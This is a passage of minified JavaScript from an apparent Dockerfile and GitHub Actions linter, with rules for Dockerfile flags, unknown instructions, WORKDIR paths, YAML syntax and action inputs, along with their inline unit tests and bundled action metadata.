--${l.name}=${m.raw}`,preferred:!0,edits:[{range:j(n,r.line,l.end,m.start),newText:"="}]}),e({message:`Missing a value on flag --${l.name}: write --${l.name}=<value>`,range:u,fixes:g.length?g:void 0});continue}if(!(f===void 0||f.includes("$"))){if(d==="bool"&&f!==""&&!/^(true|false)$/i.test(f))e({message:`--${l.name} expects true or false, not \`${f}\``,range:u});else if(d==="bool"&&f==="")e({message:`Missing a value on flag --${l.name}=`,range:u});else if(i==="RUN"&&(l.name==="network"||l.name==="security")){let m=l.name==="network"?dd:fd;if(!m.includes(f)){let g=be(f,m),h=j(n,r.line,l.nameEnd+1,l.end);e({message:`Unknown --${l.name} value \`${f}\`: use ${m.join(", ")}${g?` (did you mean ${g}?)`:""}`,range:h,fixes:g&&r.contiguous?[{title:`Change to ${g}`,preferred:!0,edits:[{range:h,newText:g}]}]:void 0})}}}}}},tests:[{name:"misspelt COPY flag",input:`FROM alpine
+COPY --chmown=1:1 a /a
+`,expect:[{line:2,col:8,message:"did you mean --chown?"}],fixed:`FROM alpine
+COPY --chown=1:1 a /a
+`},{name:"flag of another instruction",input:`FROM alpine
+ADD --from=build /a /b
+`,expect:[{line:2,message:"belongs to COPY"}]},{name:"flag on an instruction without flags",input:`FROM alpine
+ENV --foo=1 A=1
+`,expect:[{line:2,message:"ENV takes no flags"}]},{name:"FROM platform misspelt",input:`FROM --platfrom=linux/amd64 alpine
+`,expect:[{line:1,col:8}],fixed:`FROM --platform=linux/amd64 alpine
+`},{name:"case matters",input:`FROM alpine
+COPY --Link a /a
+`,expect:[{line:2,message:"--link"}],fixed:`FROM alpine
+COPY --link a /a
+`},{name:"string flag without value",input:`FROM alpine
+COPY --chmod 755 run.sh /usr/local/bin/
+`,expect:[{line:2,col:6,message:"Missing a value"}],fixed:`FROM alpine
+COPY --chmod=755 run.sh /usr/local/bin/
+`},{name:"bool with bad value",input:`FROM alpine
+COPY --link=yes a /a
+`,expect:[{line:2,message:"true or false"}]},{name:"bool forms",input:`FROM alpine
+COPY --link a /a
+COPY --link=false --parents=TRUE a /a
+`,expect:[]},{name:"network value",input:`FROM alpine
+RUN --network=nonee wget x
+`,expect:[{line:2,col:15,message:"did you mean none?"}],fixed:`FROM alpine
+RUN --network=none wget x
+`},{name:"security value",input:`FROM alpine
+RUN --security=privileged id
+`,expect:[{line:2,message:"sandbox, insecure"}]},{name:"all known flags",input:`FROM --platform=$BUILDPLATFORM alpine AS b
+RUN --mount=type=cache,target=/root/.cache --mount=type=secret,id=x --network=host --security=insecure echo
+COPY --from=b --chown=1:1 --chmod=0755 --link --parents --exclude=*.md --exclude=*.txt a /a
+ADD --chown=1 --chmod=644 --link --checksum=sha256:abc --keep-git-dir=true --unpack --exclude=x https://e.x/a.tgz /a
+HEALTHCHECK --interval=30s --timeout=3s --start-period=5s --start-interval=1s --retries=3 CMD ["true"]
+`,expect:[]},{name:"variables in values",input:`FROM alpine
+ARG NET=none
+RUN --network=$NET echo
+`,expect:[]},{name:"labs flag without labs",input:`FROM alpine
+RUN --device=name=gpu echo
+`,expect:[{line:2,message:"labs"}]},{name:"labs flag with labs",input:`# syntax=docker/dockerfile:1-labs
+FROM alpine
+RUN --device=name=gpu echo
+`,expect:[]},{name:"ARG flags are ignored",input:`FROM alpine
+ARG --x=1 A
+`,expect:[{line:2,severity:"warning"}],fixed:`FROM alpine
+ARG A
+`},{name:"HEALTHCHECK NONE ignores flags",input:`FROM alpine
+HEALTHCHECK --interval=5s NONE
+`,expect:[{line:2,severity:"warning"}]},{name:"double dash ends flags",input:`FROM alpine
+CMD -- --help
+`,expect:[]},{name:"dashes in the command are not flags",input:`FROM alpine
+RUN ls --all
+CMD ["--help"]
+`,expect:[]},{name:"CMD starting with --",input:`FROM alpine
+CMD --help
+`,expect:[{line:2,message:"CMD takes no flags"}]},{name:"flags over continuation",input:`FROM alpine
+RUN --mount=type=cache,target=/var/cache/apk \\
+    --network=none \\
+    apk add curl
+`,expect:[]},{name:"heredoc after flags",input:`FROM alpine
+RUN --mount=type=cache,target=/x <<EOF
+--not-a-flag
+EOF
+`,expect:[]},{name:"quoted flag values",input:`FROM alpine
+COPY --chown="app:app" --exclude='*.md' a /a
+`,expect:[]}]},Cf=pR;var dR={id:"UnknownInstruction",language:"dockerfile",severity:"error",docs:{summary:"A line starts with a word that is not a Dockerfile instruction.",why:"`docker build` stops with `unknown instruction` before building anything. The usual causes are a typo (`RUNN`, `COPPY`) or a missing line continuation, which turns the next line of a RUN into an instruction of its own.",bad:`FROM python:3.12-slim
+RUNN pip install flask
+`,good:`FROM python:3.12-slim
+RUN pip install flask
+`},check({model:n,report:e}){for(let t of n.instructions){if(Ve(t.keyword))continue;let s=[],i=/^[A-Za-z]+$/.test(t.written)?be(t.keyword,ls):void 0;if(i){let a=t.written===t.written.toLowerCase()?i.toLowerCase():i;s.push({title:`Change to ${a}`,preferred:!0,edits:[{range:t.keywordRange,newText:a}]})}let r=n.instructions[t.index-1],o="";if(!i&&r&&r.range.end.line===t.range.start.line-1&&t.keywordRange.start.character>0){let a=r.range.end.line,c=n.lines.lineText(a);if(!c.trimEnd().endsWith(n.escape)){o=` (missing \`${n.escape}\` at the end of line ${a+1}?)`;let l={line:a,character:c.length};s.push({title:`Continue line ${a+1} with ${n.escape}`,edits:[{range:{start:l,end:l},newText:` ${n.escape}`}]})}}e({message:`Unknown instruction: ${t.keyword}${i?` (did you mean ${i}?)`:o}`,range:t.keywordRange,fixes:s.length?s:void 0})}},tests:[{name:"typo of RUN",input:`FROM alpine
+RUNN echo hi
+`,expect:[{line:2,col:1,message:"did you mean RUN?"}],fixed:`FROM alpine
+RUN echo hi
+`},{name:"typo of COPY keeps lower case",input:`FROM alpine
+coppy a /a
+`,expect:[{line:2,message:"COPY"}],fixed:`FROM alpine
+copy a /a
+`},{name:"ENTRYPONT",input:`FROM alpine
+ENTRYPONT ["sh"]
+`,expect:[{line:2,message:"ENTRYPOINT"}],fixed:`FROM alpine
+ENTRYPOINT ["sh"]
+`},{name:"missing continuation",input:`FROM debian
+RUN apt-get update
+    && apt-get install -y curl
+`,expect:[{line:3,col:5,message:"missing `\\` at the end of line 2"}],fixed:`FROM debian
+RUN apt-get update \\
+    && apt-get install -y curl
+`},{name:"far from anything",input:`FROM alpine
+FOOBARBAZ x
+`,expect:[{line:2,message:"Unknown instruction: FOOBARBAZ"}]},{name:"all instructions, any case",input:`from alpine
+Run echo
+cmd ["x"]
+Maintainer me
+stopsignal SIGTERM
+`,expect:[]},{name:"heredoc bodies are not instructions",input:`FROM alpine
+RUN <<EOF
+set -e
+RUNN not an instruction
+EOF
+COPY <<-EOT /app/conf
+	key=value
+	EOT
+`,expect:[]},{name:"continuation lines",input:`FROM alpine
+RUN apk add \\
+    curl \\
+    git
+`,expect:[]},{name:"escape backtick continuation",input:`# escape=\`
+FROM mcr.microsoft.com/windows/servercore:ltsc2022
+RUN dir \`
+    C:\\
+`,expect:[]},{name:"CRLF and BOM",input:`\uFEFFFROM alpine\r
+RUN echo \\\r
+  hi\r
+`,expect:[]},{name:"empty file",input:"",expect:[]},{name:"only comments",input:`# just
+# comments
+`,expect:[]},{name:"lone escape at EOF",input:`FROM alpine
+RUN echo \\`,expect:[]},{name:"ONBUILD trigger is checked elsewhere",input:`FROM alpine
+ONBUILD RUN echo
+`,expect:[]}]},Lf=dR;function fR(n){return n.startsWith("/")||n.startsWith("\\")||/^[A-Za-z]:/.test(n)}var gR={id:"WorkdirRelativePath",language:"dockerfile",severity:"warning",compat:{buildkit:"WorkdirRelativePath"},aliases:["DL3000"],docs:{summary:"A relative WORKDIR needs an absolute WORKDIR earlier in the stage (or in the stage it builds on).",why:"A relative WORKDIR is resolved against the base image's working directory, so the files land somewhere else as soon as the base image changes it.",bad:`FROM node:20
+WORKDIR app
+COPY . .
+`,good:`FROM node:20
+WORKDIR /app
+COPY . .
+`},check({model:n,report:e}){let t=hn(n).byStage,s=new Map;for(let i of t){let r=i.parent?s.get(i.parent.stage.index)??!1:!1;for(let o of i.stage.instructions){if(o.keyword!=="WORKDIR")continue;let a=(o.node.getRawArgumentsContent()??"").trim(),c=dt(a,n.escape);if(!r&&c&&!a.startsWith("$")&&!fR(c)){let l=!a.includes("$")&&!/[\s"'\\]/.test(a)&&o.node.getArgumentsRange();e({message:`Relative workdir "${c}" can have unexpected results if the base image changes`,range:o.range,fixes:l?[{title:`Use /${c}`,edits:[{range:o.node.getArgumentsRange(),newText:"/"+a}]}]:void 0})}r=!0}s.set(i.stage.index,r)}},tests:[{name:"relative workdir",input:`FROM scratch
+WORKDIR app/
+`,expect:[{line:2,message:'Relative workdir "app/"'}],fixed:`FROM scratch
+WORKDIR /app/
+`},{name:"after an absolute one",input:`FROM scratch
+WORKDIR /app
+WORKDIR sub
+`,expect:[]},{name:"inherited from the parent stage",input:`FROM scratch AS a
+WORKDIR /app
+
+FROM a AS b
+WORKDIR subdir/
+`,expect:[]},{name:"not inherited from an unrelated stage",input:`FROM scratch AS a
+WORKDIR /app
+FROM scratch
+WORKDIR sub
+`,expect:[{line:4}]},{name:"variables and Windows paths",input:`FROM scratch
+WORKDIR $HOME
+FROM scratch
+WORKDIR C:\\\\app
+`,expect:[]},{name:"quoted absolute path",input:`FROM scratch
+WORKDIR "/my app"
+`,expect:[]}]},Df=gR;var Tf=[Pp,Hp,Vp,zp,Jp,Xp,Zp,Qp,ed,td,nd,sd,id,rd,od,ad,cd,ld,hd,yd,bd,wd,vd,kd,xd,Rd,Od,Sd,Md,Ad,Nd,Ed,Cd,Ld,Td,jd,_d,$d,Id,Pd,qd,Hd,Yd,Bd,Wd,Gd,Vd,zd,Kd,Xd,Zd,Qd,tf,nf,af,cf,lf,df,ff,mf,yf,bf,wf,vf,kf,xf,Rf,Of,Sf,Mf,Af,Nf,Ef,Ff,Cf,Lf,Df];var mR=/^\s*#\s*(hadolint|slipway)\s+(global\s+)?ignore\s*=\s*([A-Za-z0-9_,\s-]+)/i;function jf(n){return n.memoize("suppressions",()=>{let e={global:new Set,byLine:new Map},t=0;for(let s of n.comments){let i=mR.exec(s.getRange()?n.textOf(s.getRange()):"");if(!i)continue;let r=i[3].split(",").map(c=>c.trim().toLowerCase()).filter(Boolean);if(i[2]){for(let c of r)e.global.add(c);continue}let o=s.getRange().start.line;for(;t<n.instructions.length&&n.instructions[t].range.start.line<=o;)t++;let a=n.instructions[t];if(a)for(let c=a.range.start.line;c<=a.range.end.line;c++){let l=e.byLine.get(c);l||e.byLine.set(c,l=new Set);for(let u of r)l.add(u)}}return e})}function sl(n){return n.compat?.buildkit}function $f(n){let e={skip:new Set,skipAll:!1,error:!1,experimental:new Set,experimentalAll:!1};for(let t of n.split(";")){let s=t.indexOf("=");if(s<0)continue;let i=t.slice(0,s).trim().toLowerCase(),r=t.slice(s+1).split(",").map(o=>o.trim().toLowerCase()).filter(Boolean);if(i==="skip")for(let o of r)o==="all"?e.skipAll=!0:e.skip.add(o);else if(i==="error")e.error=r[0]==="true"||r[0]==="1";else if(i==="experimental")for(let o of r)o==="all"?e.experimentalAll=!0:e.experimental.add(o)}return e}function il(n,e){let t=e.BUILDKIT_DOCKERFILE_CHECK;if(t!==void 0)return $f(t);let s=n.checkDirective;if(s)return n.memoize("checkDirectiveOptions",()=>({skip:new Set([...s.skip].map(i=>i.toLowerCase())),skipAll:s.skipAll,error:s.error,experimental:new Set([...s.experimental].map(i=>i.toLowerCase())),experimentalAll:s.experimentalAll}))}function hR(n){return n.memoize("localCheckSkips",()=>{let e=new Map,t=n.checkDirective?n.checkDirective.range.start.line:-1;for(let s of n.instructions){let i;for(let r=s.range.start.line-1;r>=0;r--){let o=n.lines.lineText(r);if(!/^\s*#/.test(o))break;if(r===t)continue;let a=/^\s*#\s*check\s*=\s*(\S+)/i.exec(o);if(!a)continue;let c=$f(a[1]);if(!i)i=c;else{i.skipAll||=c.skipAll;for(let l of c.skip)i.skip.add(l)}}if(i)for(let r=s.range.start.line;r<=s.range.end.line;r++)e.set(r,i)}return e})}function _f(n,e){return!!n&&(n.skipAll||e.some(t=>n.skip.has(t.toLowerCase())))}var If={languages:["dockerfile"],parse:n=>new er(n),rules:Tf,isSuppressed(n,e,t,{buildArgs:s}){let i=jf(n),r=Un(t);if(r.some(c=>i.global.has(c.toLowerCase())))return!0;let o=i.byLine.get(e.range.start.line);if(o&&r.some(c=>o.has(c.toLowerCase())))return!0;let a=sl(t);return!!(a&&(_f(il(n,s),[a])||_f(hR(n).get(e.range.start.line),r)))},adjustSeverity(n,e,t,s){return sl(t)&&il(n,s?.buildArgs??{})?.error&&e.severity!=="error"?"error":e.severity},enabledByDocument(n,e,{buildArgs:t}){let s=sl(e),i=il(n,t);return!!s&&!!i&&(i.experimentalAll||i.experimental.has(s.toLowerCase()))}};var yR={id:"yaml-syntax",language:["workflow","action","compose"],severity:"error",compat:{actionlint:"syntax-check"},docs:{summary:"The file must be valid YAML.",why:"GitHub and Docker Compose refuse a file that does not parse; nothing else in it can be checked until it does.",bad:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+   steps:
+      - run: echo hi
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo "hi"
+`},check({model:n,report:e}){for(let t of n.errors)e({message:`YAML: ${t.message}`,range:t.range})},tests:[{name:"bad indentation",input:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+   steps: []
+`,expect:[{line:5}]},{name:"unterminated flow",input:`on: [push
+jobs: {}
+`,expect:[{line:2,message:"end with a ]"}]},{name:"tab indentation",input:`on: push
+jobs:
+	build: {}
+`,expect:[{line:3}]},{name:"valid",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - run: echo hi
+`,expect:[]}]},Pf=yR;var fr=[Pf];var rt=U(ke());var Ln=class{constructor(e){this.text=e;this.lines=new rn(e),this.doc=(0,rt.parseDocument)(e,{keepSourceTokens:!0,prettyErrors:!1,uniqueKeys:!1,strict:!1,merge:!0}),this.errors=this.doc.errors.map(t=>({message:WA(t.message),code:t.code,range:this.lines.range(t.pos[0],Math.max(t.pos[1],t.pos[0]+1))}))}text;doc;lines;errors;memo=new Map;memoize(e,t){if(this.memo.has(e))return this.memo.get(e);let s=t();return this.memo.set(e,s),s}get root(){return(0,rt.isMap)(this.doc.contents)?this.doc.contents:void 0}rangeOf(e){if(!e)return this.lines.range(0,0);if((0,rt.isPair)(e)){let s=e.key,i=e.value,r=s?.range?.[0]??i?.range?.[0]??0,o=i?.range?.[1]??s?.range?.[1]??r;return this.lines.range(r,o)}let t=e.range;return t?this.lines.range(t[0],t[1]):this.lines.range(0,0)}keyRange(e){return this.rangeOf(e.key)}};function WA(n){return n.split(`
+`)[0].replace(/ at line \d+, column \d+:?$/,"")}function H(n){let e=n.key;if((0,rt.isScalar)(e))return e.value===null?"null":String(e.value)}var Gt=class extends Ln{constructor(t,s="workflow"){super(t);this.kind=s}kind};var GA={},Dn={required:!0},ce=(n,e="")=>{let t={};for(let s of n.split(/\s+/).filter(Boolean))t[s]=GA;for(let s of e.split(/\s+/).filter(Boolean))t[s]=Dn;return t},Pu={"actions/checkout":{current:"v5",minMajor:4,inputsSince:4,inputs:ce("repository ref token ssh-key ssh-known-hosts ssh-strict ssh-user persist-credentials path clean filter sparse-checkout sparse-checkout-cone-mode fetch-depth fetch-tags show-progress lfs submodules set-safe-directory github-server-url"),outputs:["ref","commit"]},"actions/setup-node":{current:"v5",minMajor:4,inputsSince:4,inputs:ce("always-auth node-version node-version-file architecture check-latest registry-url scope token cache cache-dependency-path mirror mirror-token package-manager-cache"),outputs:["cache-hit","node-version"]},"actions/setup-python":{current:"v6",minMajor:5,inputsSince:5,inputs:ce("python-version python-version-file cache architecture check-latest token cache-dependency-path update-environment allow-prereleases freethreaded pip-version pip-install"),outputs:["python-version","cache-hit","python-path"]},"actions/setup-go":{current:"v6",minMajor:5,inputsSince:5,inputs:ce("go-version go-version-file check-latest token cache cache-dependency-path architecture"),outputs:["go-version","cache-hit"]},"actions/setup-java":{current:"v5",minMajor:4,inputsSince:4,inputs:{...ce("java-version java-version-file java-package architecture jdkFile check-latest server-id server-username server-password settings-path overwrite-settings gpg-private-key gpg-passphrase cache cache-dependency-path job-status token mvn-toolchain-id mvn-toolchain-vendor"),distribution:Dn},outputs:["distribution","version","path","cache-hit"]},"actions/setup-dotnet":{current:"v5",minMajor:4,inputsSince:4,inputs:ce("dotnet-version dotnet-quality global-json-file source-url owner config-file cache cache-dependency-path workloads architecture"),outputs:["cache-hit","dotnet-version"]},"actions/cache":{current:"v4",minMajor:4,inputsSince:4,inputs:{...ce("restore-keys upload-chunk-size enableCrossOsArchive fail-on-cache-miss lookup-only save-always"),path:Dn,key:Dn},outputs:["cache-hit"]},"actions/upload-artifact":{current:"v4",minMajor:4,inputsSince:4,inputs:{...ce("name if-no-files-found retention-days compression-level overwrite include-hidden-files"),path:Dn},outputs:["artifact-id","artifact-url","artifact-digest"]},"actions/download-artifact":{current:"v5",minMajor:4,inputsSince:4,inputs:ce("name artifact-ids path pattern merge-multiple github-token repository run-id"),outputs:["download-path"]},"actions/github-script":{current:"v8",minMajor:7,inputsSince:7,inputs:{...ce("github-token debug user-agent previews result-encoding retries retry-exempt-status-codes base-url"),script:Dn},outputs:["result"]},"actions/stale":{current:"v10",minMajor:8},"actions/labeler":{current:"v6",minMajor:5},"actions/configure-pages":{current:"v5",minMajor:3},"actions/upload-pages-artifact":{current:"v4",minMajor:3},"actions/deploy-pages":{current:"v4",minMajor:2},"actions/setup-ruby":{current:"v1",minMajor:99},"actions/create-release":{current:"v1",minMajor:99},"actions/upload-release-asset":{current:"v1",minMajor:99},"docker/login-action":{current:"v3",minMajor:3,inputsSince:3,inputs:ce("registry username password ecr logout","")},"docker/setup-buildx-action":{current:"v3",minMajor:3,inputsSince:3,inputs:ce("version driver driver-opts buildkitd-flags buildkitd-config buildkitd-config-inline install use name endpoint platforms append keep-state cache-binary cleanup"),outputs:["name","driver","platforms","nodes","endpoint","status","flags"]},"docker/setup-qemu-action":{current:"v3",minMajor:3,inputsSince:3,inputs:ce("image platforms cache-image"),outputs:["platforms"]},"docker/build-push-action":{current:"v6",minMajor:5,inputsSince:5,inputs:ce("add-hosts allow annotations attests build-args build-contexts builder cache-from cache-to call cgroup-parent context file labels load network no-cache no-cache-filters outputs platforms provenance pull push sbom secrets secret-envs secret-files shm-size ssh tags target ulimit github-token"),outputs:["imageid","digest","metadata"]},"docker/metadata-action":{current:"v5",minMajor:5,inputsSince:5,inputs:ce("context images tags flavor labels annotations sep-tags sep-labels sep-annotations bake-target github-token"),outputs:["version","tags","labels","annotations","json","bake-file","bake-file-tags","bake-file-labels","bake-file-annotations"]},"aws-actions/configure-aws-credentials":{current:"v4",minMajor:3},"azure/login":{current:"v2",minMajor:2},"azure/aks-set-context":{current:"v4",minMajor:4},"rhysd/action-setup-vim":{current:"v1",inputsSince:1,inputs:ce("version neovim configure-args token"),outputs:["executable","vim-dir"]},"pypa/gh-action-pypi-publish":{current:"release/v1",inputs:{...ce("user password repository-url packages-dir verify-metadata skip-existing verbose print-hash attestations"),repository_url:{deprecated:"The inputs have been normalized to use kebab-case. Use `repository-url` instead"},packages_dir:{deprecated:"The inputs have been normalized to use kebab-case. Use `packages-dir` instead"},verify_metadata:{deprecated:"The inputs have been normalized to use kebab-case. Use `verify-metadata` instead"},skip_existing:{deprecated:"The inputs have been normalized to use kebab-case. Use `skip-existing` instead"},print_hash:{deprecated:"The inputs have been normalized to use kebab-case. Use `print-hash` instead"}}}};function fo(n){let e=/^([^/@\s]+)\/([^/@\s]+)(\/[^@\s]*)?@([^\s]+)$/.exec(n);if(e)return{name:`${e[1]}/${e[2]}${e[3]??""}`,repo:`${e[1]}/${e[2]}`,path:e[3]?.slice(1),ref:e[4]}}function go(n){let e=/^v?(\d+)(?:\.\d+)*$/.exec(n);return e?Number(e[1]):void 0}function mo(n){return Pu[n.toLowerCase()]??Pu[Object.keys(Pu).find(e=>e.toLowerCase()===n.toLowerCase())??""]}var Mt=U(require("node:path")),Vt=U(ke());var V=U(ke());function L(n,e){let t=e;for(let s=0;s<8&&(0,V.isAlias)(t);s++)t=t.resolve(n.doc);return(0,V.isAlias)(t)?void 0:t}function _(n){if(!(0,V.isScalar)(n))return;let e=n.value;if(!(e==null||typeof e=="symbol"))return String(e)}function z(n,e){let t=new Map;if(!e)return t;for(let s of e.items){if(!(0,V.isPair)(s))continue;let i=_(s.key);i!==void 0&&!t.has(i)&&t.set(i,s)}return t}function $e(n,e){let t=L(n,e?.value);return(0,V.isMap)(t)?t:void 0}function Nh(n,e){let t=L(n,e);if(!(0,V.isSeq)(t))return[];let s=[];return t.items.forEach((i,r)=>{let o=L(n,i);if(!(0,V.isMap)(o))return;let a=z(n,o),c=d=>{let f=L(n,a.get(d)?.value);return(0,V.isScalar)(f)?f:void 0},l=c("id"),u=c("uses"),p=c("run");s.push({index:r,node:o,id:_(l),idNode:l,name:_(c("name")),uses:_(u),usesNode:u,run:_(p),runNode:p,shellNode:c("shell"),with:$e(n,a.get("with")),pairs:a})}),s}function ne(n){return n.memoize("wfs:structure",()=>{let e={events:[],jobs:[],jobById:new Map,actionSteps:[]},t=L(n,n.doc.contents);if(!(0,V.isMap)(t))return e;e.root=t;let s=z(n,e.root);if(n.kind==="action")return e.runs=$e(n,s.get("runs")),e.runs&&(e.actionSteps=Nh(n,z(n,e.runs).get("steps")?.value)),e;let i=L(n,s.get("on")?.value);if(e.on=i??void 0,(0,V.isScalar)(i)&&typeof i.value=="string")e.events.push({name:i.value,node:i});else if((0,V.isSeq)(i))for(let o of i.items){let a=L(n,o);(0,V.isScalar)(a)&&typeof a.value=="string"&&e.events.push({name:a.value,node:a})}else if((0,V.isMap)(i))for(let o of i.items){let a=_(o.key);a!==void 0&&(0,V.isScalar)(o.key)&&e.events.push({name:a,node:o.key,config:L(n,o.value)??void 0})}let r=$e(n,s.get("jobs"));e.jobsNode=r;for(let o of r?.items??[]){if(!(0,V.isPair)(o)||!(0,V.isScalar)(o.key))continue;let a=_(o.key);if(a===void 0)continue;let c=L(n,o.value),l=(0,V.isMap)(c)?c:void 0,u=z(n,l),p=[],d=L(n,u.get("needs")?.value);if((0,V.isScalar)(d)&&_(d))p.push({name:_(d),node:d});else if((0,V.isSeq)(d))for(let g of d.items){let h=L(n,g);(0,V.isScalar)(h)&&_(h)&&p.push({name:_(h),node:h})}let f=L(n,u.get("uses")?.value),m={id:a,keyNode:o.key,keyRange:n.keyRange(o),node:l,pairs:u,needs:p,uses:_(f),usesNode:(0,V.isScalar)(f)?f:void 0,steps:Nh(n,u.get("steps")?.value),runsOn:L(n,u.get("runs-on")?.value)??void 0};e.jobs.push(m),e.jobById.has(a.toLowerCase())||e.jobById.set(a.toLowerCase(),m)}return e})}function St(n){let e=ne(n);return n.kind==="action"?e.actionSteps.map(t=>({step:t})):e.jobs.flatMap(t=>t.steps.map(s=>({job:t,step:s})))}function Tn(n,e){if(!n)return;let t=n.replace(/\\/g,"/"),s=t.lastIndexOf("/.github/workflows/");if(s>=0)return t.slice(0,s)||"/";let i=Mt.posix.dirname(t);for(let r=0;r<12;r++){if(e.exists(Mt.posix.join(i,".github"))||e.exists(Mt.posix.join(i,".git")))return i;let o=Mt.posix.dirname(i);if(o===i)break;i=o}}var ho=new Map;function Eh(n,e,t){let s=ho.get(n);if(s&&s.text===e)return s.value;let i=t();return ho.size>64&&ho.clear(),ho.set(n,{text:e,value:i}),i}function Fh(n,e,t){let s=Mt.posix.join(n,e.replace(/^\.\//,""));for(let i of["action.yml","action.yaml"]){let r=Mt.posix.join(s,i),o=t.readFile(r);if(o!==void 0)return Eh(r,o,()=>{let a=new Gt(o,"action"),c=z(a,a.root),l=new Map;for(let d of $e(a,c.get("inputs"))?.items??[]){let f=_(d.key);if(f===void 0)continue;let m=L(a,d.value),g=(0,Vt.isMap)(m)?z(a,m):new Map,h=L(a,g.get("required")?.value);l.set(f.toLowerCase(),{name:f,required:(0,Vt.isScalar)(h)&&(h.value===!0||h.value==="true"),hasDefault:g.has("default")})}let u=($e(a,c.get("outputs"))?.items??[]).map(d=>_(d.key)).filter(d=>!!d),p=_(L(a,z(a,$e(a,c.get("runs"))).get("using")?.value));return{file:r,inputs:l,outputs:u,using:p}})}}function Ch(n,e,t){let s=Mt.posix.join(n,e.replace(/^\.\//,"")),i=t.readFile(s);if(i!==void 0)return Eh(s,i,()=>{let r=new Gt(i,"workflow"),a=ne(r).events.find(l=>l.name==="workflow_call"),c={file:s,callable:!!a,inputs:new Map,secrets:new Map,outputs:[]};if(a&&(0,Vt.isMap)(a.config)){let l=z(r,a.config);for(let[u,p]of[["inputs",c.inputs],["secrets",c.secrets]])for(let d of $e(r,l.get(u))?.items??[]){let f=_(d.key);if(f===void 0)continue;let m=L(r,d.value),g=(0,Vt.isMap)(m)?z(r,m):new Map,h=L(r,g.get("required")?.value);p.set(f.toLowerCase(),{name:f,required:(0,Vt.isScalar)(h)&&h.value===!0,hasDefault:g.has("default"),type:_(L(r,g.get("type")?.value))})}c.outputs=($e(r,l.get("outputs"))?.items??[]).map(u=>_(u.key)).filter(u=>!!u)}return c})}var VA={id:"action-inputs",language:["workflow","action"],severity:"error",compat:{actionlint:"action"},docs:{summary:"`with:` of a step must match the inputs of its action: required inputs given, no unknown inputs, no deprecated ones. Local actions (`uses: ./path`) are read from their `action.yml`; popular actions (checkout, setup-*, cache, artifacts, docker/*, github-script, \u2026) from bundled metadata.",why:"An unknown input is silently ignored by GitHub (a typo such as `node_version` means the default is used), and a missing required input fails the step at run time.",bad:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/setup-node@v4
+        with:
+          node_version: 20
+      - uses: actions/setup-java@v4
+        with:
+          java-version: 21
+`,good:`on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/setup-node@v4
+        with:
+          node-version: 20
+      - uses: actions/setup-java@v4
+        with:
+          distribution: temurin
+          java-version: 21
+`},check({model:n,files:e,path:t,report:s}){let i=Tn(t,e);for(let{step:r}of St(n)){if(!r.uses||!r.usesNode||r.uses.includes("${{"))continue;let o=r.uses.trim(),a,c=!0;if(o.startsWith("./")){if(!i)continue;let d=Fh(i,o,e);if(!d)continue;if(a=d.inputs,d.using==="docker"){a=new Map(a);for(let f of["entrypoint","args"])a.has(f)||a.set(f,{name:f,required:!1,hasDefault:!0})}}else{let d=fo(o);if(!d)continue;let f=mo(d.name);if(!f?.inputs)continue;let m=go(d.ref);if(m!==void 0&&f.inputsSince!==void 0&&m<f.inputsSince||m!==void 0&&f.current.startsWith("v")&&m>Number(f.current.slice(1)))continue;a=new Map(Object.entries(f.inputs).map(([g,h])=>[g.toLowerCase(),{name:g,required:!!h.required,hasDefault:!1,deprecated:h.deprecated}])),c=!1}let l=new Map;for(let d of r.with?.items??[]){let f=_(d.key);f!==void 0&&l.set(f.toLowerCase(),{name:f,pair:d})}let u=[...a.values()].filter(d=>!d.deprecated).map(d=>d.name);for(let[d,f]of l){let m=n.keyRange(f.pair),g=a.get(d);if(g?.deprecated){s({message:`avoid using deprecated input ${JSON.stringify(f.name)} in action ${JSON.stringify(o)}: ${g.deprecated}`,range:m,severity:"warning"});continue}if(g)continue;let h=se(f.name,u)??u.find(y=>y.replace(/[-_]/g,"").toLowerCase()===f.name.replace(/[-_]/g,"").toLowerCase());s({message:`input ${JSON.stringify(f.name)} is not defined in action ${JSON.stringify(o)}. available inputs are ${u.sort().map(y=>JSON.stringify(y)).join(", ")||"none"}`+(h?`. Did you mean ${JSON.stringify(h)}?`:""),range:m,severity:c?void 0:"warning",fixes:h?[{title:`Change to "${h}"`,preferred:!0,edits:[{range:m,newText:h}]}]:void 0})}let p=[...a.values()].filter(d=>d.required&&!d.hasDefault&&!l.has(d.name.toLowerCase()));p.length&&s({message:`missing input${p.length>1?"s":""} ${p.map(d=>JSON.stringify(d.name)).join(", ")} which ${p.length>1?"are":"is"} required by action ${JSON.stringify(o)}`,range:n.rangeOf(r.usesNode)})}},tests:[{name:"popular actions: unknown (warning) and missing required inputs",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/setup-node@v4
+        with:
+          node_version: 20
+      - uses: actions/setup-java@v4
+        with:
+          java-version: 21
+      - uses: pypa/gh-action-pypi-publish@release/v1
+        with:
+          packages_dir: dist
+`,expect:[{line:8,col:11,message:'input "node_version" is not defined in action "actions/setup-node@v4"',severity:"warning"},{line:9,col:15,message:'missing input "distribution" which is required'},{line:14,col:11,message:'deprecated input "packages_dir"',severity:"warning"}]},{name:"local actions",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: ./.github/actions/build
+        with:
+          targt: x
+      - uses: ./.github/actions/docker
+        with:
+          args: --help
+`,files:{".github/actions/build/action.yml":`name: b
+description: d
+inputs:
+  target:
+    description: t
+    required: true
+  level:
+    required: true
+    default: "1"
+runs:
+  using: composite
+  steps: []
+`,".github/actions/docker/action.yml":`name: d
+description: d
+runs:
+  using: docker
+  image: Dockerfile
+`},expect:[{line:6,col:15,message:'missing input "target"'},{line:8,col:11,message:'Did you mean "target"',severity:"error"}],fixed:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: ./.github/actions/build
+        with:
+          target: x
+      - uses: ./.github/actions/docker
+        with:
+          args: --help
+`},{name:"valid inputs, old majors and unknown actions are not checked",input:`on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+        with:
+          fetch-depth: 0
+          Token: x
+      - uses: actions/setup-node@v2
